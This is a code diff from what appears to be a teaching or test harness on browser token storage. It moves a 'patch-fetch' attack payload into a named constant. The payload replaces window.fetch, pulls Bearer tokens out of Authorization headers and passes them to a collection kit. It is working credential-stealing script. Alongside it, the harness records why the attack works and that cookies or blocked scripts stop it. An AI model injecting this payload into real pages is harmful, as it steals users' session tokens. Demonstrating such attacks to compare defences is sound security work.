@@ -3,6 +3,20 @@
 import type { Attack } from '../attack.ts'
 import { press } from '../scene.ts'
 import { awaitLoot, judgeToken } from './loot.ts'
+import type { Payload } from '../world/payload.ts'
+
+const script: Payload = (kit) => {
+  const { fetch } = window
+  window.fetch = (input, init) => {
+    const headers = new Headers(input instanceof Request ? input.headers : init?.headers)
+    const token = /^Bearer (.+)$/.exec(headers.get('authorization') ?? '')?.[1]
+    if (token !== undefined) {
+      kit.take('token', token)
+      void kit.flush()
+    }
+    return fetch(input, init)
+  }
+}
 
 export const patchFetch: Attack = {
   name: 'patch-fetch',
@@ -11,22 +25,12 @@ export const patchFetch: Attack = {
   what: 'The script puts its own function in the place of fetch, waits for the page to call the API, and reads the token from the headers.',
   why: 'Page and attacker share every built-in. Whoever replaces one sees what the other hands to it.',
   stops: 'A token that script never holds (a cookie), or a script that may not run.',
+  script: { when: 'late', payload: script },
   control: 'local-storage',
   succeedsOn: ['local-storage', 'session-storage', 'variable', 'hallpass'],
   async run(scene) {
     const page = await scene.signIn()
-    await scene.injectLate((kit) => {
-      const { fetch } = window
-      window.fetch = (input, init) => {
-        const headers = new Headers(input instanceof Request ? input.headers : init?.headers)
-        const token = /^Bearer (.+)$/.exec(headers.get('authorization') ?? '')?.[1]
-        if (token !== undefined) {
-          kit.take('token', token)
-          void kit.flush()
-        }
-        return fetch(input, init)
-      }
-    })
+    await scene.injectLate(script)
     await press(page, '#read-notes', /read|error/)
     const installed = await scene.thief.report()
     await press(page, '#show', 'profile: 200')
